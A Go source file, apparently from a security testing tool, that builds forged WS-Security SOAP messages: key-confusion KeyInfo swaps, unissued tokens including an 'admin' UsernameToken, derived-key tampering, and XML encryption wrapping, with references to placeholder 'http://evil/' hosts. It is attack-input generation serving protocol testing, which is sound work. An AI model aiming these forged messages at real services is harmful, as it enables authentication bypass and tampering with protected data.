package attacks

import (
	"fmt"
	"strings"
)

// confuseKeys lets signatures and ciphertexts name other keys.
func (f *forge) confuseKeys() {
	for _, e := range f.security.all() {
		if e.local == "SecurityTokenReference" && e.space == nsWSSE {
			for _, content := range f.references() {
				f.add(fmt.Sprintf("reference at %d: %.80s", e.start, content), f.edited(edit{e.open, e.close, content}))
			}
		}
		if e.local != "KeyInfo" {
			continue
		}
		for _, content := range []string{
			`<ds:KeyName xmlns:ds="` + nsDS + `">evil</ds:KeyName>`,
			`<ds:KeyValue xmlns:ds="` + nsDS + `"><ds:RSAKeyValue><ds:Modulus>AQ==</ds:Modulus><ds:Exponent>AQAB` +
				`</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>`,
			`<ds:RetrievalMethod xmlns:ds="` + nsDS + `" URI="http://evil/key"/>`,
			`<ds:X509Data xmlns:ds="` + nsDS + `"><ds:X509Certificate>AQ==</ds:X509Certificate></ds:X509Data>`,
			encryptedKey(""), `<x:BinarySecret xmlns:x="http://docs.oasis-open.org/ws-sx/ws-trust/200512">` +
				`AAAAAAAAAAAAAAAAAAAAAA==</x:BinarySecret>`, "",
		} {
			f.add(fmt.Sprintf("KeyInfo at %d: %.60s", e.start, content), f.edited(edit{e.open, e.close, content}))
			f.add(fmt.Sprintf("KeyInfo at %d also has %.60s", e.start, content), f.edited(afterStart(e, content)))
		}
	}
	for _, other := range f.otherTokens() {
		f.add(fmt.Sprintf("token first: %.60s", other), f.edited(afterStart(f.security, other)))
		f.add(fmt.Sprintf("token last: %.60s", other), f.edited(beforeEnd(f.security, other)))
		for _, e := range f.security.children {
			if e.local == "BinarySecurityToken" || e.local == "SecurityContextToken" {
				f.add(fmt.Sprintf("token replaced by %.60s", other), f.edited(replace(e, other)))
			}
		}
	}
	f.changeTokens()
}

func encryptedKey(id string) string {
	return `<xenc:EncryptedKey xmlns:xenc="` + nsXENC + `" Id="` + id + `"><xenc:EncryptionMethod Algorithm="` + nsXENC +
		`kw-aes128"/><xenc:CipherData><xenc:CipherValue>AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA</xenc:CipherValue>` +
		`</xenc:CipherData></xenc:EncryptedKey>`
}

// references are contents of a SecurityTokenReference.
func (f *forge) references() (list []string) {
	const profile = "http://docs.oasis-open.org/wss/oasis-wss-kerberos-token-profile-1.1#"
	ids := append(f.ids(), "none", f.body.id())
	for _, e := range f.security.all() {
		if e.id() != "" {
			ids = append(ids, e.id())
		}
	}
	for _, id := range ids {
		for _, valueType := range []string{profile + "GSS_Kerberosv5_AP_REQ", profile + "Kerberosv5_AP_REQ",
			"http://docs.oasis-open.org/ws-sx/ws-secureconversation/200512/sct", ""} {
			list = append(list, `<o:Reference xmlns:o="`+nsWSSE+`" URI="#`+id+`" ValueType="`+valueType+`"/>`)
		}
	}
	for _, value := range []string{"", "AAAAAAAAAAAAAAAAAAAAAAAAAAA=", "AA=="} {
		for _, valueType := range []string{profile + "Kerberosv5APREQSHA1",
			"http://docs.oasis-open.org/wss/oasis-wss-soap-message-security-1.1#EncryptedKeySHA1",
			"http://docs.oasis-open.org/wss/oasis-wss-soap-message-security-1.1#ThumbprintSHA1"} {
			list = append(list, `<o:KeyIdentifier xmlns:o="`+nsWSSE+`" ValueType="`+valueType+`">`+value+
				`</o:KeyIdentifier>`)
		}
	}
	return append(list, `<o:Embedded xmlns:o="`+nsWSSE+`">`+encryptedKey("e")+`</o:Embedded>`,
		`<o:Reference xmlns:o="`+nsWSSE+`" URI="http://evil/token"/>`)
}

// otherTokens are tokens that nobody has issued.
func (f *forge) otherTokens() (list []string) {
	ids := append([]string{"evil"}, f.ids()...)
	for _, id := range ids {
		list = append(list, `<o:BinarySecurityToken xmlns:o="`+nsWSSE+`" xmlns:u="`+nsWSU+`" u:Id="`+id+
			`" ValueType="http://docs.oasis-open.org/wss/oasis-wss-kerberos-token-profile-1.1#GSS_Kerberosv5_AP_REQ">AAAA`+
			`</o:BinarySecurityToken>`,
			`<o:UsernameToken xmlns:o="`+nsWSSE+`" xmlns:u="`+nsWSU+`" u:Id="`+id+`"><o:Username>admin</o:Username>`+
				`</o:UsernameToken>`,
			`<s:Assertion xmlns:s="urn:oasis:names:tc:SAML:2.0:assertion" ID="`+id+`"/>`,
			`<c:SecurityContextToken xmlns:c="http://docs.oasis-open.org/ws-sx/ws-secureconversation/200512" xmlns:u="`+
				nsWSU+`" u:Id="`+id+`"><c:Identifier>urn:uuid:evil</c:Identifier></c:SecurityContextToken>`,
			encryptedKey(id))
	}
	return list
}

// changeTokens alters attributes and octets of tokens.
func (f *forge) changeTokens() {
	for _, e := range f.security.all() {
		if e.local != "BinarySecurityToken" && e.local != "SecurityContextToken" && e.local != "KeyIdentifier" &&
			e.local != "Identifier" && e.local != "Instance" && e.local != "Cookie" {
			continue
		}
		tag := f.src[e.start:e.open]
		for _, a := range e.attrs {
			for _, value := range []string{"", "urn:evil", a.Value + "x", strings.ToLower(a.Value)} {
				f.add(fmt.Sprintf("%s of %s is %q", a.Name.Local, e.local, value), f.edited(edit{e.start, e.open,
					strings.Replace(tag, `"`+a.Value+`"`, `"`+value+`"`, 1)}))
			}
		}
		text := e.inner(f.Octets)
		for i := 0; i < len(text); i += max(1, len(text)/24) {
			f.add(fmt.Sprintf("octet %d of %s", i, e.local), f.edited(edit{e.open + i, e.open + i + 1, "A"}))
			f.add(fmt.Sprintf("%s cut at %d", e.local, i), f.edited(edit{e.open + i, e.close, ""}))
		}
	}
}

// abuseDerivedKeys changes what a key is derived from.
func (f *forge) abuseDerivedKeys() {
	for _, space := range []string{"http://schemas.xmlsoap.org/ws/2005/02/sc",
		"http://docs.oasis-open.org/ws-sx/ws-secureconversation/200512"} {
		for _, inner := range []string{"<c:Length>16</c:Length><c:Nonce>AAAA</c:Nonce>", "<c:Nonce>AAAA</c:Nonce>", ""} {
			token := `<c:DerivedKeyToken xmlns:c="` + space + `" xmlns:u="` + nsWSU + `" u:Id="dk-evil">` + inner +
				`</c:DerivedKeyToken>`
			f.add("another DerivedKeyToken first: "+inner, f.edited(afterStart(f.security, token)))
			f.add("another DerivedKeyToken last: "+inner, f.edited(beforeEnd(f.security, token)))
			for _, e := range f.security.all() {
				if e.local == "Reference" && e.space == nsWSSE {
					f.add(fmt.Sprintf("%.60s: reference at %d", token, e.start), f.edited(afterStart(f.security, token),
						edit{e.start, e.open, uriAttribute.ReplaceAllString(f.src[e.start:e.open], `URI="#dk-evil"`)}))
				}
			}
		}
	}
	var tokens []*element
	for _, e := range f.security.all() {
		if e.local == "DerivedKeyToken" {
			tokens = append(tokens, e)
		}
	}
	for _, e := range tokens {
		for _, other := range tokens {
			if e.id() != other.id() {
				f.add("swapped "+e.id()+" and "+other.id(), f.edited(replace(e, strings.Replace(f.source(e), e.id(), other.id(),
					1)), replace(other, strings.Replace(f.source(other), other.id(), e.id(), 1))))
			}
			f.add(e.id()+" derives from "+other.id(), f.edited(edit{e.open, e.close,
				uriAttribute.ReplaceAllLiteralString(e.inner(f.Octets), `URI="#`+other.id()+`"`)}))
		}
		f.changeDerivation(e)
	}
}

// changeDerivation changes one DerivedKeyToken.
func (f *forge) changeDerivation(e *element) {
	for _, c := range e.children {
		for _, value := range []string{"", "0", "1", "-1", "8", "15", "16", "17", "32", "33", "64", "1024", "2147483648",
			"4294967296", "18446744073709551616", "AAAA", "x", strings.Repeat("A", 4096)} {
			if !c.isEmptyTag() {
				f.add(fmt.Sprintf("%s of %s is %.40s", c.local, e.id(), value), f.edited(edit{c.open, c.close, value}))
			}
		}
		f.add("no "+c.local+" in "+e.id(), f.edited(replace(c, "")))
		f.add("two "+c.local+" in "+e.id(), f.edited(insert(c.end, f.source(c))))
	}
	prefix := f.tagName(e)[:strings.Index(f.tagName(e), ":")+1]
	for _, added := range []string{"Length>16", "Length>0", "Offset>0", "Offset>16", "Offset>4294967295", "Generation>0",
		"Generation>1", "Generation>4294967296", "Label>evil", "Label>", "Nonce>AAAA", "Properties>"} {
		local, _, _ := strings.Cut(added, ">")
		text := `<` + prefix + added + `</` + prefix + local + `>`
		f.add("first in "+e.id()+": "+added, f.edited(afterStart(e, text)))
		f.add("last in "+e.id()+": "+added, f.edited(beforeEnd(e, text)))
	}
}

// wrapEncryption moves, copies and swaps ciphertexts, and puts content beside
// them.
func (f *forge) wrapEncryption() {
	var all []*element
	for _, e := range f.root.all() {
		if e.space == nsXENC && e.local == "EncryptedData" {
			all = append(all, e)
		}
	}
	for i, e := range all {
		f.changeEncrypted(e)
		for place, move := range f.places(f.body) {
			name := fmt.Sprintf("EncryptedData %d %s", i, f.placeNames()[place])
			f.add(name, f.edited(move(f.source(e))))
			f.add(name+", moved", f.edited(replace(e, ""), move(f.source(e))))
			other := strings.Replace(f.source(e), e.id(), "evil-"+e.id(), 1)
			f.add(name+", with another Id", f.edited(move(other)))
			list := `<xenc:ReferenceList xmlns:xenc="` + nsXENC + `"><xenc:DataReference URI="#evil-` + e.id() +
				`"/></xenc:ReferenceList>`
			f.add(name+", with another Id, listed first", f.edited(afterStart(f.security, list), move(other)))
			f.add(name+", with another Id, listed last", f.edited(beforeEnd(f.security, list), move(other)))
		}
		for j, other := range all {
			if i != j && (e.start > other.end || e.end < other.start) {
				f.add(fmt.Sprintf("EncryptedData %d in the place of %d", i, j), f.edited(replace(other, f.source(e))))
				f.add(fmt.Sprintf("EncryptedData %d and %d swapped", i, j), f.edited(replace(other, f.source(e)),
					replace(e, f.source(other))))
				f.add(fmt.Sprintf("EncryptedData %d in %d", i, j), f.edited(beforeEnd(other, f.source(e))))
			}
		}
	}
	if len(all) == 0 {
		f.addEncrypted()
	}
	for _, e := range f.security.all() {
		if e.space == nsXENC && e.local == "DataReference" {
			for _, uri := range []string{"", "#none", "#" + f.body.id(), "#" + f.security.id(), "http://evil/"} {
				f.add(fmt.Sprintf("DataReference at %d to %q", e.start, uri), f.edited(edit{e.start, e.open,
					uriAttribute.ReplaceAllLiteralString(f.src[e.start:e.open], `URI="`+uri+`"`)}))
			}
			f.add(fmt.Sprintf("without DataReference at %d", e.start), f.edited(replace(e, "")))
			f.add(fmt.Sprintf("twice DataReference at %d", e.start), f.edited(insert(e.end, f.source(e))))
		}
	}
}

// addEncrypted puts EncryptedData of the attacker's into a message that has none.
func (f *forge) addEncrypted() {
	data := `<xenc:EncryptedData xmlns:xenc="` + nsXENC + `" Id="ED-evil" Type="` + nsXENC + `Content">` +
		`<xenc:EncryptionMethod Algorithm="` + nsXENC + `aes128-cbc"/><xenc:CipherData><xenc:CipherValue>` +
		strings.Repeat("A", 64) + `</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData>`
	list := `<xenc:ReferenceList xmlns:xenc="` + nsXENC + `"><xenc:DataReference URI="#ED-evil"/></xenc:ReferenceList>`
	for place, move := range f.places(f.body) {
		f.add("EncryptedData "+f.placeNames()[place], f.edited(move(data)))
		f.add("EncryptedData, listed first, "+f.placeNames()[place], f.edited(afterStart(f.security, list), move(data)))
		f.add("EncryptedData, listed last, "+f.placeNames()[place], f.edited(beforeEnd(f.security, list), move(data)))
	}
	f.add("EncryptedData for the content of Body", f.edited(afterStart(f.security, list),
		edit{f.body.open, f.body.close, data}))
}

// changeEncrypted changes one EncryptedData.
func (f *forge) changeEncrypted(e *element) {
	name := fmt.Sprintf("EncryptedData at %d: ", e.start)
	f.add(name+"replaced by content", f.edited(replace(e, evil)))
	f.add(name+"content before", f.edited(insert(e.start, evil)))
	f.add(name+"content after", f.edited(insert(e.end, evil)))
	f.add(name+"text before", f.edited(insert(e.start, "give all")))
	f.add(name+"comment before", f.edited(insert(e.start, "<!-- x -->")))
	f.add(name+"wrapped", f.edited(insert(e.start, `<e:Evil xmlns:e="urn:evil">`), insert(e.end, `</e:Evil>`)))
	f.add(name+"content within", f.edited(beforeEnd(e, evil)))
	tag := f.src[e.start:e.open]
	for _, kind := range []string{"Element", "Content", "EncryptedKey", ""} {
		f.add(name+"Type "+kind, f.edited(edit{e.start, e.open, strings.Replace(tag, e.attr("Type"), nsXENC+kind, 1)}))
	}
	for _, added := range []string{`MimeType="text/html"`, `Encoding="urn:evil"`} {
		f.add(name+added, f.edited(insert(e.open-1, " "+added)))
	}
	value := e.child(nsXENC, "CipherData").child(nsXENC, "CipherValue")
	if value == nil {
		return
	}
	for i := value.open; i < value.close; i += max(1, (value.close-value.open)/32) {
		flipped := "A"
		if f.src[i] == 'A' {
			flipped = "B"
		}
		f.add(fmt.Sprintf("%soctet %d changed", name, i-value.open), f.edited(edit{i, i + 1, flipped}))
		f.add(fmt.Sprintf("%scut at %d", name, i-value.open), f.edited(edit{i, value.close, ""}))
	}
	f.add(name+"CipherReference", f.edited(replace(value, `<xenc:CipherReference xmlns:xenc="`+nsXENC+
		`" URI="http://evil/"/>`)))
}
